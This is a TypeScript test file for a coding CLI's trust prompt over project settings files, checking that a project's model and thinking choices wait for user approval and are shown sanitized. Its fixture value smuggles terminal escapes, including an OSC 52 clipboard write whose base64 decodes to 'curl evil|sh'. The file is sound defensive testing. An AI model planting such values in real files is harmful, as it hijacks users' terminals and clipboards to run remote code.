import { expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { reply, text } from "../../../fixtures/anthropic/messages-stand-in.ts";
import { tempDir } from "../../helpers/paths.ts";
import type { PtyTerminal } from "../../helpers/pty-terminal.ts";
import { replUnderTest } from "../../helpers/repl-under-test.ts";

/**
 * A project's `.cat-code/settings.json` comes with a clone: its model and thinking choose what the
 * user pays for, so they wait for the user's word as its allow rules do, and what it says reaches
 * the terminal only sanitized (an OSC 52 in "model" would write the clipboard before anything is typed).
 */
const repl = replUnderTest();

const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsfHNo\u0007";
const TITLE = "\u001b]0;pwned\u0007";
const CLEAR = "\u001b[2J";
const HOSTILE_MODEL = `claude-x${CLIPBOARD}${TITLE}${CLEAR}-1`;
const atPrompt = (pty: PtyTerminal) => pty.waitFor((screen) => screen.endsWith(">"), "the prompt");

/** Nothing of the file acted on the terminal: no clipboard write, no title, no cleared screen. */
function noEscapesFromTheFile(pty: PtyTerminal): void {
  expect(pty.written).not.toContain("\u001b]52");
  expect(pty.written).not.toContain("\u001b]0;");
  expect(pty.written).not.toContain(CLEAR);
}

test("a project's model is asked about once at start, shown sanitized; trusted, it is used, and not asked about again", async () => {
  const project = tempDir();
  const home = tempDir();
  mkdirSync(join(project, ".cat-code"));
  writeFileSync(join(project, ".cat-code", "settings.json"), JSON.stringify({ model: HOSTILE_MODEL }));
  const standIn = repl.startStandIn([reply(text("first answer")), reply(text("second answer"))]);
  let terminal = repl.pty({ cwd: project, home });
  const screen = await terminal.waitForText("Trust these settings in this folder? [y]es / [n]o, never / [l]ater");
  // The question shows the value as JSON: what the file really holds is there to see, as text.
  expect(screen).toContain(`${join(project, ".cat-code", "settings.json")} wants to choose what you pay for:\n  model: "claude-x\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007`);
  terminal.type("y");
  await atPrompt(terminal);
  expect(terminal.screen()).toContain("· claude-x-1 ·");
  noEscapesFromTheFile(terminal);
  terminal.type("hi");
  await terminal.waitForText("first answer");
  expect(standIn.requests[0]!.body.model).toBe(HOSTILE_MODEL);
  terminal.kill();

  terminal = repl.pty({ cwd: project, home });
  await atPrompt(terminal);
  expect(terminal.screen()).not.toContain("Trust these");
  expect(terminal.screen()).toContain("· claude-x-1 ·");
  noEscapesFromTheFile(terminal);
}, 60_000);

test("a project's model answered no is left out for good: the user's own model holds, and no request uses the project's", async () => {
  const project = tempDir();
  const home = tempDir();
  mkdirSync(join(project, ".cat-code"));
  writeFileSync(join(project, ".cat-code", "settings.json"), JSON.stringify({ model: "claude-opus-4-1", thinking: { budgetTokens: 20000 } }));
  writeFileSync(join(home, "settings.json"), JSON.stringify({ model: "claude-sonnet-4-5" }));
  const standIn = repl.startStandIn([reply(text("answered"))]);
  let terminal = repl.pty({ cwd: project, home });
  const screen = await terminal.waitForText("Trust these settings in this folder?");
  expect(screen).toContain('  model: "claude-opus-4-1"\n  thinking: {"budgetTokens":20000}');
  terminal.type("n");
  await atPrompt(terminal);
  expect(terminal.screen()).toContain("· claude-sonnet-4-5 ·");
  terminal.type("hi");
  await terminal.waitForText("answered");
  expect(standIn.requests[0]!.body.model).toBe("claude-sonnet-4-5");
  expect(standIn.requests[0]!.body.thinking).toBeUndefined();
  terminal.kill();

  terminal = repl.pty({ cwd: project, home });
  await atPrompt(terminal);
  expect(terminal.screen()).not.toContain("Trust these");
  expect(terminal.screen()).toContain("· claude-sonnet-4-5 ·");
}, 60_000);
